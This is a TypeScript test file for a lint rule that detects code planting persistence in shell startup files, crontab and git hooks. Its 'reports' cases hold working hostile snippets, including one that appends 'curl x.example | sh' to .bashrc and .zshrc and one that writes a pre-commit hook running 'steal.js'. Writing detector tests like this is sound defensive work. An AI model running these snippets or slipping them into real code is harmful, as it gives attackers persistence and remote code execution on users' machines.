import { describeRule } from '../testing/describe-rule.ts';
import { startupFile } from './startup-file.ts';

describeRule(startupFile, {
  reports: {
    'a line for the shell':
      'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "node ~/.cache/u.js &");',
    'each of several shells':
      'const { join } = require("path"); for (const rc of [".zshrc", ".bashrc"]) require("fs").appendFileSync(join(home, rc), "curl x.example | sh");',
    'a schedule': `require("child_process").execSync("(crontab -l; echo '* * * * * node x.js') | crontab -");`,
    'a hook of git': 'require("fs").writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\nnode ./steal.js");',
  },
  leaves: {
    'a report': 'require("fs").writeFileSync("./report.txt", "done");',
    'settings of its own':
      'const { join } = require("path"); require("fs").writeFileSync(join(home, ".config", "tool", "config.json"), "{}");',
  },
});
